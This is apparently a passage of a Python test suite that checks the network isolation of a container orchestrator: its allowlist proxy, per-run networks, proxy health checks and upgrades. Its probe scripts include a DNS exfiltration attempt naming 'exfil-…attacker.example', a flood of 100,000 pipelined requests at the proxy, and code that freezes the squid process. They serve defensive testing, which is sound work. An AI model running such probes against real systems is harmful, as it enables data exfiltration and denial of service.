    engine, internet, project, host_web, isolation
):
    from orchestrator.audit import AuditFilter, AuditLog
    from orchestrator.config import load_project, load_worker
    from orchestrator.prepare import prepare
    from orchestrator.runtime import execute

    jobs = [
        ["fetch", "http_allowed", "http://allowed.test/"],
        ["fetch", "https_allowed", "https://allowed.test/"],
        ["fetch", "http_denied", "http://denied.test/"],
        ["connect", "direct_ip", internet["addresses"]["ipweb"], 80],
    ]
    command = json.dumps(["python3", "-c", probe_script(jobs)])
    project.extra += "untrusted_network: allow\n"
    project.write_project()
    project.worker("listed", f"command: {command}\nnetwork: {{allow: [allowed.test]}}")
    project.worker("closed", f"command: {command}\nresources: {{timeout: 60}}")
    # `full` has no proxy and its own project network: it reaches a server on the host.
    open_jobs = [["fetch", "host_web", "http://GATEWAY:PORT/"]]
    open_script = GATEWAY_PROBE + with_gateway(probe_script(open_jobs)).replace(
        "PORT", str(host_web)
    )
    open_command = json.dumps(["python3", "-c", open_script])
    project.worker("open", f"command: {open_command}\ntrust: session\nnetwork: full")
    loaded = load_project(project.root)
    audit = AuditLog(loaded.sandbox_root / "audit.jsonl")

    def run(name):
        prepared = prepare(loaded, load_worker(loaded, name))
        result = execute(ContainerBackend(engine), prepared, audit=audit, staging=None)
        return prepared, result, last_json(result.stdout)

    prepared, result, seen = run("listed")
    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
    assert network_name(prepared.spec) == f"orchestrator-run-{prepared.spec.run_id}"
    assert not engine.api.networks(names=[network_name(prepared.spec)])  # gone with the run
    assert prepared.spec.env["HTTPS_PROXY"] == "http://proxy:3128"
    assert seen["http_allowed"][:2] == ["ok", 200]
    assert seen["https_allowed"][:2] == ["ok", 200]
    assert seen["http_denied"][:2] == ["http-error", 403]
    assert seen["direct_ip"][0] == "failed"
    verdicts = {(d["host"], d["port"], d["allowed"]) for d in result.egress}
    assert {
        ("allowed.test", 80, True),
        ("allowed.test", 443, True),
        ("denied.test", 80, False),
    } <= verdicts
    logged = audit.query(AuditFilter(operation="egress.decision", run=prepared.spec.run_id))
    assert {(e.metadata["host"], e.allowed) for e in logged} >= {
        ("allowed.test", True),
        ("denied.test", False),
    }

    _, result, seen = run("closed")
    assert all(v[0] in ("os-error", "failed") for v in seen.values()), seen
    assert result.egress == []

    prepared, result, seen = run("open")
    full = network_name(prepared.spec)
    assert full == full_network(project_key(loaded.root))
    assert seen["host_web"][:2] == ["ok", 200], seen
    options = engine.api.inspect_network(full)["Options"]
    assert options["com.docker.network.bridge.enable_icc"] == "false"
    # The project network is shared, not owned: gc removes it once nothing uses it.
    assert full in engine.collect_shared(idle_seconds=0)


# -- runs never reach each other -----------------------------------------------------------

#: A run that listens on TCP 7777 and tells where in /meet/a.json; then waits for
#: /meet/done, or calls the child named in CHILD (which probes it) and returns.
LISTENER = r"""
import json, os, socket, subprocess, threading, time
ip = socket.gethostbyname(socket.gethostname())
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("0.0.0.0", 7777))
server.listen(8)
contacts = []
def serve():
    while True:
        conn, peer = server.accept()
        contacts.append(peer[0])
        conn.sendall(b"hello")
        conn.close()
threading.Thread(target=serve, daemon=True).start()
with open("/meet/a.tmp", "w") as handle:
    json.dump({"ip": ip, "run": os.environ["ORCHESTRATOR_RUN_ID"]}, handle)
os.rename("/meet/a.tmp", "/meet/a.json")
CHILD = __CHILD__
if CHILD:
    subprocess.run(["orchestrator-call", CHILD], check=False)
else:
    deadline = time.time() + 90
    while not os.path.exists("/meet/done") and time.time() < deadline:
        time.sleep(0.1)
print(json.dumps({"ip": ip, "contacts": contacts}))
"""

#: A run that connects to the listener's address directly and through its proxy, fetches
#: URL (through the proxy when it has one), and reports in /meet/b.json.
PROBER = r"""
import json, os, socket, time, urllib.error, urllib.request
deadline = time.time() + 60
while not os.path.exists("/meet/a.json") and time.time() < deadline:
    time.sleep(0.1)
peer = json.load(open("/meet/a.json"))
out = {"ip": socket.gethostbyname(socket.gethostname()), "peer": peer["ip"]}
sock = socket.socket()
sock.settimeout(3)
try:
    sock.connect((peer["ip"], 7777))
    out["direct"] = ["connected", sock.recv(5).decode()]
except OSError as exc:
    out["direct"] = ["failed", type(exc).__name__]
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=15) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError as exc:
        return str(exc)
out["web"] = fetch(URL)
if os.environ.get("HTTP_PROXY"):
    out["via_proxy"] = fetch("http://%s:7777/" % peer["ip"])
with open("/meet/b.json", "w") as handle:
    json.dump(out, handle)
open("/meet/done", "w").close()
print(json.dumps(out))
"""


def _meeting_workers(project, front, url, child=None):
    project.zone("meet", "rw")
    zones = "sandbox: {zones: [{name: meet, mode: rw}]}"
    listener = LISTENER.replace("__CHILD__", repr(child))
    prober = GATEWAY_PROBE + PROBER.replace("URL)", url + ")", 1)
    extra = f"\nchildren: [{child}]" if child else ""
    for name, script in (("listener", listener), ("prober", prober)):
        command = json.dumps(["python3", "-c", script])
        project.worker(
            name, f"command: {command}\n{front}\n{zones}{extra if name == 'listener' else ''}"
        )
    return project.root / "meet"


def _listener_started(process, meet, timeout=60.0):
    deadline = time.monotonic() + timeout
    while not (meet / "a.json").exists():
        if process.poll() is not None or time.monotonic() > deadline:
            process.kill()
            out, err = process.communicate()
            pytest.fail(f"the listener did not start:\n{out}\n{err}")
        time.sleep(0.1)
    return json.loads((meet / "a.json").read_text())


def _two_sessions_meet(engine, project, front, url):
    """A listener run and a prober run, each a CLI run of its own session."""
    meet = _meeting_workers(project, front, url)
    root = str(project.root)
    listener = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "run", "listener", "--project", root, "--json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        peer = _listener_started(listener, meet)
        # Control: the listener answers (from the host), so only the network stops others.
        with socket.create_connection((peer["ip"], 7777), timeout=5) as sock:
            assert sock.recv(5) == b"hello"
        prober = cli("run", "prober", "--project", root, "--json")
    finally:
        (meet / "done").touch()
        out, err = listener.communicate(timeout=120)
    assert listener.returncode == 0, err
    assert prober.returncode == 0, prober.stderr
    first = json.loads(out)
    seen = json.loads((meet / "b.json").read_text())
    return peer, last_json(first["stdout"]), seen


@docker
def test_a_run_with_the_same_allowlist_cannot_reach_another_run(engine, internet, project):
    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
    peer, listened, seen = _two_sessions_meet(
        engine,
        project,
        "trust: session\nnetwork: {allow: [allowed.test]}",
        '"http://allowed.test/"',
    )
    assert seen["direct"][0] == "failed", seen  # no route to the other run
    assert seen["via_proxy"] == 403, seen  # and the proxy admits only the allowlist
    assert seen["web"] == 200, seen  # while the proxy still works for the run
    assert seen["ip"] not in listened["contacts"], listened
    networks = {
        n["Name"] for n in engine.api.networks() if n["Name"].startswith("orchestrator-run-")
    }
    assert f"orchestrator-run-{peer['run']}" not in networks  # removed with its run


@docker
def test_a_full_run_cannot_reach_another_full_run(engine, project, host_web):
    url = f'"http://" + GATEWAY + ":{host_web}/"'
    try:
        _, listened, seen = _two_sessions_meet(
            engine, project, "trust: session\nnetwork: full", url
        )
    finally:
        # the project's, shared network
        release_network(engine, full_network(project_key(project.root)))
    assert seen["direct"][0] == "failed", seen  # inter-container traffic is off
    assert seen["web"] == 200, seen  # the way out still works
    assert seen["ip"] not in listened["contacts"], listened


@docker
def test_a_child_through_the_broker_gets_its_own_network(engine, internet, project):
    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(["allowed.test"])))
    meet = _meeting_workers(
        project,
        "trust: session\nnetwork: {allow: [allowed.test]}",
        '"http://allowed.test/"',
        child="prober",
    )
    result = cli("run", "listener", "--project", str(project.root), "--json")
    assert result.returncode == 0, result.stderr
    seen = json.loads((meet / "b.json").read_text())
    assert seen["direct"][0] == "failed", seen
    assert seen["via_proxy"] == 403 and seen["web"] == 200, seen
    assert seen["ip"] not in last_json(result.json()["stdout"])["contacts"]


@docker
def test_a_full_network_made_without_icc_off_is_replaced_or_refused(engine, project):
    from orchestrator.docker.networks import NO_ICC, set_up_network

    key = project_key(project.root)
    name = full_network(key)
    spec = dataclasses.replace(_probe_spec(), network=Network("full", project=key))
    engine.api.create_network(  # as an older version made it: inter-container traffic on
        name, driver="bridge", labels=eg.shared_labels("full")
    )
    try:
        set_up_network(engine, spec)  # unused: replaced
        options = engine.api.inspect_network(name)["Options"]
        assert options.items() >= NO_ICC.items()
        release_network(engine, name)
        engine.api.create_network(name, driver="bridge", labels=eg.shared_labels("full"))
        user = engine.create(dataclasses.replace(spec, command=["true"]))
        try:
            with pytest.raises(EngineError, match="enable_icc=false and is used by"):
                set_up_network(engine, spec)
        finally:
            engine.remove(user)
    finally:
        release_network(engine, name)


def _probe_spec():
    return ContainerSpec(
        image=WORKER_IMAGE,
        command=["python3", "-c", "pass"],
        uid=10001,
        gid=10001,
        env={"HOME": "/tmp"},
        seccomp=None,
        limits=Limits(memory=64 << 20, cpus=0.5, pids=16, timeout_s=600.0),
        tmpfs=[Tmpfs("/tmp", size=1 << 20)],
        labels={TEST_LABEL: "egress"},
    )


# -- the proxy's health ----------------------------------------------------------------------


def _health(engine, container):
    state = engine.api.inspect_container(container)["State"]
    return (state.get("Health") or {}).get("Status")


def _wait_health(engine, container, wanted, timeout=30.0):
    deadline = time.monotonic() + timeout
    while (got := _health(engine, container)) != wanted:
        assert time.monotonic() < deadline, f"health stayed {got}, wanted {wanted}"
        time.sleep(0.2)


@docker
def test_an_unhealthy_proxy_is_replaced_and_serves_the_runs_of_the_old_one(
    engine, internet, monkeypatch
):
    # Production checks every 30 s; here every second, so the test stays short.
    short = dataclasses.replace(
        contract.PROXY_HEALTH, interval=1.0, timeout=1.0, start_period=0.0, retries=2
    )
    monkeypatch.setattr(eg, "PROXY_HEALTH", short)
    allow = eg.validate_allowlist(["allowed.test"])
    key = eg.allowlist_key(allow)
    internet["keys"].add(key)
    try:  # start from a proxy made with the short intervals
        eg_gc.remove_egress(engine, key)
    except EngineError:
        pytest.skip("the proxy for allowed.test is in use by a run")
    first = eg.ensure_egress(engine, allow)
    _wait_health(engine, first.proxy_container, "healthy")
    with run_net(engine, first) as net:
        # squid stops answering, but its socket stays open: only the health check sees it.
        freeze = (
            "import os, signal\n"
            "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
            "    if open(f'/proc/{pid}/comm').read().strip() == 'squid':\n"
            "        os.kill(int(pid), signal.SIGSTOP)\n"
        )
        exec_id = engine.api.exec_create(first.proxy_container, ["python3", "-c", freeze])
        engine.api.exec_start(exec_id)
        _wait_health(engine, first.proxy_container, "unhealthy")
        assert eg.ensure_egress(engine, allow) != first  # replaced, not reused
        second = eg.ensure_egress(engine, allow)
        assert second.proxy_container != first.proxy_container
        assert not engine.api.containers(all=True, filters={"id": first.proxy_container})
        # The run in flight keeps its way out: the new proxy joined its network.
        assert second.proxy_container in engine.api.inspect_network(net)["Containers"]
        _, output = run_probe(
            engine,
            net,
            probe_script([["fetch", "http", "http://allowed.test/"]]),
            env=eg.proxy_env(second),
        )
        assert last_json(output)["http"][:2] == ["ok", 200], output
    _wait_health(engine, second.proxy_container, "healthy")
    # The health check's own requests are not decisions.
    assert not [
        d
        for d in eg.decisions(engine, second, datetime.fromtimestamp(0, UTC))
        if d.host == "health.invalid"
    ]


# -- local services behind an allowlist --------------------------------------------------------


@docker
def test_a_declared_local_service_is_reachable_through_the_proxy_only(engine, internet, project):
    from orchestrator.runtime import collect

    net = f"svc-test-{uuid.uuid4().hex[:8]}"  # the user's own network: no orchestrator labels
    engine.api.create_network(net, driver="bridge")
    key = eg.egress_key(eg.validate_allowlist([f"web.{net}"]), [net])
    web = None
    try:
        web = engine.api.create_container(
            image=TESTWEB_IMAGE,
            name=f"orchestrator-test-svcweb-{os.getpid()}",
            environment={"TESTWEB_NAME": "service"},
            labels=engine.labels_for({TEST_LABEL: "egress"}),
            host_config=engine.api.create_host_config(
                read_only=True,
                cap_drop=["ALL"],
                security_opt=["no-new-privileges:true"],
                sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
                network_mode=net,
            ),
            networking_config={"EndpointsConfig": {net: {"Aliases": ["web", "other"]}}},
        )["Id"]
        engine.start(web)
        _wait_for_servers(engine, [web])
        address = engine.api.inspect_container(web)["NetworkSettings"]["Networks"][net]["IPAddress"]
        project.extra = f"network:\n  services:\n    - network: {net}\n"
        project.write_project()
        jobs = [
            ["fetch", "service", f"http://web.{net}/"],
            ["fetch", "unlisted", f"http://other.{net}/"],
            ["connect", "direct", address, 80],
        ]
        command = json.dumps(["python3", "-c", probe_script(jobs)])
        project.worker("svc", f"command: {command}\nnetwork: {{allow: [web.{net}]}}")
        plan = cli("plan", "svc", "--project", str(project.root), "--json")
        assert plan.json()["network"]["services"] == [net]
        result = cli("run", "svc", "--project", str(project.root), "--json")
        assert result.returncode == 0, result.stderr
        seen = last_json(result.json()["stdout"])
        assert seen["service"][:2] == ["ok", 200], seen
        assert seen["unlisted"][:2] == ["http-error", 403], seen
        assert seen["direct"][0] == "failed", seen  # only through the proxy
        # gc removes the proxy when idle, and never the user's network.
        collect(engine)
        eg_gc.remove_egress(engine, key)
        assert engine.api.inspect_network(net)["Name"] == net
    finally:
        if web is not None:
            engine.remove(web)
        try:
            eg_gc.remove_egress(engine, key)
        finally:
            engine.api.remove_network(net)


@docker
def test_an_undeclared_service_network_that_does_not_exist_is_named(engine, internet, project):
    project.extra = "network:\n  services:\n    - network: no-such-net-here\n"
    project.write_project()
    project.worker("svc", 'command: ["true"]\nnetwork: {allow: [web.no-such-net-here]}')
    result = cli("run", "svc", "--project", str(project.root))
    assert result.returncode == 125
    assert "network 'no-such-net-here' does not exist" in result.stderr
    assert "Traceback" not in result.stderr


KILLED = """
import dataclasses, os, signal, sys
from orchestrator.docker import DockerEngine
from orchestrator.plan import ContainerSpec, Limits, Network
from orchestrator.docker.networks import set_up_network
spec = ContainerSpec(
    image="x", command=None, uid=1, gid=1, limits=Limits(memory=1, cpus=1, pids=1, timeout_s=1),
    network=Network("allowlist", allow=["allowed.test"]), run_id=sys.argv[1], worker="killed",
)
set_up_network(DockerEngine(), spec)
print("ready", flush=True)
os.kill(os.getpid(), signal.SIGKILL)
"""


@docker
def test_gc_removes_the_network_of_a_killed_run_and_frees_its_proxy(engine, internet):
    from orchestrator.runtime import collect

    key = eg.allowlist_key(eg.validate_allowlist(["allowed.test"]))
    internet["keys"].add(key)
    run_id = f"killed{uuid.uuid4().hex[:6]}"
    name = f"orchestrator-run-{run_id}"
    done = subprocess.run(
        [sys.executable, "-c", KILLED, run_id], capture_output=True, text=True, timeout=60
    )
    assert done.returncode == -9 and "ready" in done.stdout, done.stderr
    proxy = eg.PROXY_PREFIX + key
    proxy_id = engine.api.inspect_container(proxy)["Id"]
    assert proxy_id in engine.api.inspect_network(name)["Containers"]
    assert not eg_gc.is_idle(engine, key, 0)  # the dead run's network still holds it
    removed = {obj.name for obj in collect(engine).removed}
    assert name in removed
    assert not engine.api.networks(names=[name])
    networks = engine.api.inspect_container(proxy)["NetworkSettings"]["Networks"]
    assert name not in networks


# -- upgrades: a proxy made by an older version ------------------------------------------------


def _old_style_proxy(engine, allow, key):
    """A proxy as the version before per-run networks made it: on its own internal network
    ``orchestrator-egress-<key>``, serving only that network's subnet, no version label and
    no health check. Returns (container id, network name)."""
    network = f"orchestrator-egress-{key}"
    engine.api.create_network(
        network,
        driver="bridge",
        internal=True,
        labels=eg.shared_labels("internal", key),
        options={"com.docker.network.bridge.name": f"{eg.BRIDGE_PREFIX}{key[:11]}"},
    )
    subnet = engine.api.inspect_network(network)["IPAM"]["Config"][0]["Subnet"]
    allowed = contract.allow_text(allow)
    created = engine.api.create_container(
        image=contract.PROXY_IMAGE,
        name=eg.PROXY_PREFIX + key,
        environment={"EGRESS_ALLOW": allowed, "EGRESS_PORT": "3128", "EGRESS_CLIENTS": subnet},
        labels=eg.shared_labels("proxy", key, allowed),
        # Its /tmp, where it writes squid's configuration: without one, on its read-only
        # root, it would exit within a second, and whether it was left running would be a
        # race against its own exit.
        host_config=engine.api.create_host_config(
            network_mode=network,
            read_only=True,
            cap_drop=["ALL"],
            init=True,
            tmpfs={contract.PROXY_TMP: f"size={contract.PROXY_TMP_SIZE}"},
        ),
        networking_config={"EndpointsConfig": {network: {"Aliases": ["proxy"]}}},
    )["Id"]
    engine.api.connect_container_to_network(created, eg.OUTSIDE_NETWORK)
    engine.start(created)
    return created, network


@docker
def test_a_proxy_made_by_an_older_version_is_replaced(engine, internet, project):
    allow = eg.validate_allowlist(["allowed.test", "www.allowed.test"])
    key = eg.allowlist_key(allow)
    internet["keys"].add(key)
    try:
        eg_gc.remove_egress(engine, key)
    except EngineError:
        pytest.skip("the proxy for this allowlist is in use by a run")
    old, old_network = _old_style_proxy(engine, allow, key)
    try:
        jobs = [["fetch", "http", "http://allowed.test/"]]
        command = json.dumps(["python3", "-c", probe_script(jobs)])
        project.worker(
            "upgraded", f"command: {command}\nnetwork: {{allow: [allowed.test, www.allowed.test]}}"
        )
        result = cli("run", "upgraded", "--project", str(project.root), "--json")
        assert result.returncode == 0, result.stderr
        seen = last_json(result.json()["stdout"])
        assert seen["http"][:2] == ["ok", 200], seen  # the old proxy answered 403
        assert not engine.api.containers(all=True, filters={"id": old})
        assert not engine.api.networks(names=[old_network])
        info = engine.api.inspect_container(eg.PROXY_PREFIX + key)
        assert info["Config"]["Labels"][eg.EGRESS_VERSION] == contract.PROXY_VERSION
        assert info["Config"]["Healthcheck"]["Test"] == list(contract.PROXY_HEALTH.test)
    finally:
        eg_gc.remove_egress(engine, key)  # the old proxy and its network too, if left


@docker
def test_an_older_proxy_still_serving_an_older_run_is_refused_with_the_fix(engine, internet):
    allow = eg.validate_allowlist(["old.allowed.test"])
    key = eg.allowlist_key(allow)
    internet["keys"].add(key)
    old, old_network = _old_style_proxy(engine, allow, key)
    worker = None
    try:
        # On the old network by name: no plan names such a network any more.
        worker = engine.api.create_container(
            image=WORKER_IMAGE,
            command=["true"],
            labels=engine.labels_for({TEST_LABEL: "egress"}),
            host_config=engine.api.create_host_config(network_mode=old_network),
        )["Id"]
        with pytest.raises(
            EngineError, match=r"made by an older version and is used by .*docker rm -f"
        ):
            eg.ensure_egress(engine, allow)
        assert engine.api.inspect_container(old)["State"]["Running"]  # left alone
    finally:
        if worker is not None:
            engine.remove(worker)
        eg_gc.remove_egress(engine, key)
    assert not engine.api.networks(names=[old_network])


# -- the proxy is no bridge between runs -------------------------------------------------------


@docker
def test_a_listed_name_or_address_in_another_run_is_refused_by_the_proxy(engine, internet):
    # Run A's network holds a server known to the proxy's DNS there as victim.test; the
    # proxy joins A's network because A has the same allowlist as the prober's run B.
    net_a = f"orchestrator-run-test-{uuid.uuid4().hex[:10]}"
    engine.api.create_network(
        net_a, driver="bridge", internal=True, labels=engine.labels_for({TEST_LABEL: "egress"})
    )
    victim = None
    key = ""
    try:
        victim = engine.api.create_container(
            image=TESTWEB_IMAGE,
            name=f"orchestrator-test-victim-{os.getpid()}",
            environment={"TESTWEB_NAME": "victim"},
            labels=engine.labels_for({TEST_LABEL: "egress"}),
            host_config=engine.api.create_host_config(
                read_only=True,
                cap_drop=["ALL"],
                security_opt=["no-new-privileges:true"],
                sysctls={"net.ipv4.ip_unprivileged_port_start": "0"},
                network_mode=net_a,
            ),
            networking_config={"EndpointsConfig": {net_a: {"Aliases": ["victim.test"]}}},
        )["Id"]
        engine.start(victim)
        _wait_for_servers(engine, [victim])
        address = engine.api.inspect_container(victim)["NetworkSettings"]["Networks"][net_a][
            "IPAddress"
        ]
        allow = eg.validate_allowlist(["victim.test", f"{address}:80", "allowed.test:8080"])
        key = eg.allowlist_key(allow)
        internet["keys"].add(key)
        egress = eg.ensure_egress(engine, allow)
        eg.attach(engine, egress, net_a)
        jobs = [
            ["fetch", "by_name", "http://victim.test/"],
            ["fetch", "by_address", f"http://{address}/"],
            ["fetch", "outside", "http://allowed.test:8080/"],
        ]
        with run_net(engine, egress) as net_b:
            code, output = run_probe(engine, net_b, probe_script(jobs), env=eg.proxy_env(egress))
        assert code == 0, output
        seen = last_json(output)
        assert seen["by_name"][:2] == ["http-error", 403], seen
        assert seen["by_address"][:2] == ["http-error", 403], seen
        assert seen["outside"][:2] == ["ok", 200], seen  # the rest of the list still works
        # The proxy itself can reach the victim: only its rules stand in the way.
        probe = engine.api.exec_create(
            egress.proxy_container,
            ["python3", "-c", f"import socket; socket.create_connection(('{address}', 80), 3)"],
        )
        engine.api.exec_start(probe)
        assert engine.api.exec_inspect(probe)["ExitCode"] == 0
    finally:
        if victim is not None:
            engine.remove(victim)
        assert release_network(engine, net_a)
        if key:
            eg_gc.remove_egress(engine, key)


# -- a flood cannot erase decisions; no DNS out of a worker's namespace ---------------------

#: An allowlist of the flood test's own, so that its proxy is shared by its runs only.
FLOOD_ALLOW = ["allowed.test", "www.allowed.test:8443"]
FLOOD_FRONT = (
    "trust: session\nnetwork: {allow: [allowed.test, 'www.allowed.test:8443']}\n"
    "sandbox: {zones: [{name: meet, mode: rw}]}"
)

#: Waits for /meet/other-ready, makes one allowed request, then COUNT pipelined denied
#: requests with 255-character host names through its proxy; prints what it sent.
FLOODER = r"""
import json, os, socket, threading, time, urllib.request
def wait(name, limit=120):
    end = time.time() + limit
    while not os.path.exists("/meet/" + name):
        assert time.time() < end, name
        time.sleep(0.1)
wait("other-ready")
with urllib.request.urlopen("http://allowed.test/", timeout=15) as answer:
    first = answer.status
sent = answered = 0
def host(n):
    return ("%08d" % n) + "x" * 55 + ("." + "a" * 63) * 3  # 255 characters
def drain(sock, counts):
    while True:
        try:
            data = sock.recv(1 << 16)
        except OSError:
            return
        if not data:
            return
        counts[0] += data.count(b"HTTP/1.1 403")
end = time.time() + 90
while sent < COUNT and time.time() < end:
    sock = socket.create_connection(("proxy", 3128), timeout=30)
    counts = [0]
    reader = threading.Thread(target=drain, args=(sock, counts))
    reader.start()
    try:
        while sent < COUNT and time.time() < end:
            batch = b"".join(
                b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n" % ((host(n).encode(),) * 2)
                for n in range(sent, min(sent + 500, COUNT))
            )
            sock.sendall(batch)
            sent = min(sent + 500, COUNT)
        time.sleep(1)
        sock.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    reader.join(60)
    sock.close()
    answered += counts[0]
open("/meet/flooded", "w").close()
print(json.dumps({"first": first, "sent": sent, "answered": answered}))
"""

#: Fetches an allowed and a denied URL, tells the flooder, waits for the flood to end,
#: then fetches another denied one.
OTHER = r"""
import json, os, time, urllib.error, urllib.request
def fetch(url):
    try:
        with urllib.request.urlopen(url, timeout=15) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code
seen = [fetch("http://allowed.test/"), fetch("http://denied.test/")]
open("/meet/other-ready", "w").close()
end = time.time() + 240
while not os.path.exists("/meet/flooded") and time.time() < end:
    time.sleep(0.2)
seen.append(fetch("http://www.allowed.test/"))
print(json.dumps(seen))
"""


def _runs_of(audit, worker):
    from orchestrator.audit import AuditFilter

    return [
        e.run_id for e in audit.query(AuditFilter(operation="run.started")) if e.worker == worker
    ]


def _decisions_of(audit, run_id):
    from orchestrator.audit import AuditFilter

    entries = audit.query(AuditFilter(operation="egress.decision", run=run_id))
    return [(e.metadata["host"], e.allowed) for e in entries]


@docker
def test_a_flood_of_denied_requests_erases_no_decision_and_stops_no_later_run(
    engine, internet, project
):
    """One allowed request, then 100,000 pipelined denied ones with 255-character names
    (enough to rotate the proxy's whole log 3 x 10 MB without the log budget): the allowed
    decision and another run's decisions on the same proxy are all in the audit log, the
    flood is one egress.flood entry with counts, the audit log and the run's stderr grow
    by little, and a new run on the allowlist starts right after."""
    from orchestrator.audit import AuditFilter, AuditLog
    from orchestrator.config import load_project

    internet["keys"].add(eg.allowlist_key(eg.validate_allowlist(FLOOD_ALLOW)))
    meet = project.zone("meet", "rw")
    count = 100_000
    project.worker(
        "flooder",
        f"command: {json.dumps(['python3', '-c', FLOODER.replace('COUNT', str(count))])}\n"
        f"{FLOOD_FRONT}\nresources: {{timeout: 300}}",
    )
    project.worker("other", f"command: {json.dumps(['python3', '-c', OTHER])}\n{FLOOD_FRONT}")
    project.worker(
        "late",
        "command: "
        + json.dumps(["python3", "-c", probe_script([["fetch", "late", "http://allowed.test/"]])])
        + f"\n{FLOOD_FRONT}",
    )
    root = str(project.root)
    audit_path = load_project(project.root).sandbox_root / "audit.jsonl"
    other = subprocess.Popen(
        [sys.executable, "-m", "orchestrator", "run", "other", "--project", root, "--json"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        assert wait_until(lambda: (meet / "other-ready").exists(), 120), other.poll()
        before = audit_path.stat().st_size
        started = time.monotonic()
        flood = cli("run", "flooder", "--project", root, timeout=400)
        took = time.monotonic() - started
        grown = audit_path.stat().st_size - before
    finally:
        (meet / "flooded").touch()
        out, err = other.communicate(timeout=240)
    late = cli("run", "late", "--project", root, "--json")

    assert flood.returncode == 0, flood.stderr
    sent = last_json(flood.stdout)
    assert sent["first"] == 200 and sent["sent"] == count, sent
    assert sent["answered"] > count // 2, sent  # the proxy did answer the flood
    audit = AuditLog(audit_path)
    [flood_run] = _runs_of(audit, "flooder")
    decisions = _decisions_of(audit, flood_run)
    assert ("allowed.test", True) in decisions
    denied = [host for host, allowed in decisions if not allowed]
    assert 0 < len(denied) <= contract.RUN_DENIED
    [entry] = audit.query(AuditFilter(operation="egress.flood", run=flood_run))
    counted = entry.metadata["denied"] + entry.metadata["logged_denied"]
    assert sent["answered"] <= counted <= count, (entry.metadata, sent)
    assert entry.metadata["bytes"] > 250 * entry.metadata["denied"]
    assert grown < 400_000, grown  # was 55 MB
    assert len(flood.stderr.splitlines()) <= 15 and len(flood.stderr) < 4096, flood.stderr
    assert "egress FLOOD" in flood.stderr

    assert other.returncode == 0, err
    assert json.loads(json.loads(out)["stdout"].strip().splitlines()[-1]) == [200, 403, 403]
    [other_run] = _runs_of(audit, "other")
    assert sorted(_decisions_of(audit, other_run)) == [
        ("allowed.test", True),
        ("denied.test", False),
        ("www.allowed.test", False),
    ]
    assert not audit.query(AuditFilter(operation="egress.flood", run=other_run))

    assert late.returncode == 0, late.stderr
    assert last_json(late.json()["stdout"])["late"][:2] == ["ok", 200]
    assert ("allowed.test", True) in _decisions_of(audit, late.json()["run_id"])
    print(f"flood: {sent}, run {took:.1f} s, audit +{grown} bytes, {entry.metadata}")


#: Tells its run id in /meet/ready.json, waits for /meet/go, then looks an outside name
#: up every way it can (the C library, UDP and TCP straight to the engine's DNS), finds
#: its proxy by name, fetches through it, and sends one datagram to its gateway's port 9
#: (the control: it leaves the namespace). Reports in one JSON line.
DNS_PROBE = r"""
import json, os, socket, struct, time, urllib.request
run = os.environ["ORCHESTRATOR_RUN_ID"]
with open("/meet/ready.tmp", "w") as handle:
    json.dump({"run": run}, handle)
os.rename("/meet/ready.tmp", "/meet/ready.json")
end = time.time() + 120
while not os.path.exists("/meet/go") and time.time() < end:
    time.sleep(0.05)
out = {"resolv": open("/etc/resolv.conf").read().split(), "nets": sorted(name for _, name in socket.if_nameindex())}
started = time.time()
try:
    socket.getaddrinfo("exfil-%s.attacker.example" % run, 80)
    out["lookup"] = "resolved"
except OSError:
    out["lookup"] = "failed"
out["lookup_s"] = time.time() - started
name = b"".join(bytes([len(p)]) + p for p in (b"exfil-raw", run.encode()[:20], b"example"))
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", 1, 1)
for kind in ("udp", "tcp"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
    sock.settimeout(4)
    try:
        if kind == "udp":
            sock.sendto(query, ("127.0.0.11", 53))
            answer = sock.recv(512)
        else:
            sock.connect(("127.0.0.11", 53))
            sock.sendall(struct.pack("!H", len(query)) + query)
            answer = sock.recv(514)[2:]
        out[kind] = "rcode %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
    except OSError as exc:
        out[kind] = type(exc).__name__
    finally:
        sock.close()
if os.environ.get("HTTP_PROXY"):
    out["proxy"] = socket.gethostbyname("proxy")
    with urllib.request.urlopen("http://allowed.test/", timeout=15) as answer:
        out["fetch"] = answer.status
    gateway = None
    for line in open("/proc/net/route").read().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            gateway = socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(3):
        sock.sendto(b"control", (gateway, 9))
    sock.close()
print(json.dumps(out))
"""


class PortCounter:
    """Counts IPv4 TCP and UDP packets to or from given ports on a host interface (a
    packet socket on the bridge: what left the containers' namespaces). Needs root."""

    def __init__(self, interface, ports):
        self.counts = dict.fromkeys(ports, 0)
        self.frames = 0
        self._stop = threading.Event()
        self._sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self._sock.bind((interface, 0))
        self._sock.settimeout(0.1)
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self):
        while not self._stop.is_set():
            try:
                frame = self._sock.recv(65535)
            except TimeoutError:
                continue
            except OSError:  # the bridge went away with its run
                return
            self.frames += 1
            if len(frame) < 34 or frame[12:14] != b"\x08\x00" or frame[23] not in (6, 17):
                continue
            header = (frame[14] & 15) * 4
            ports = struct.unpack("!HH", frame[14 + header : 18 + header])
            for port in set(ports) & set(self.counts):
                self.counts[port] += 1

    def stop(self):
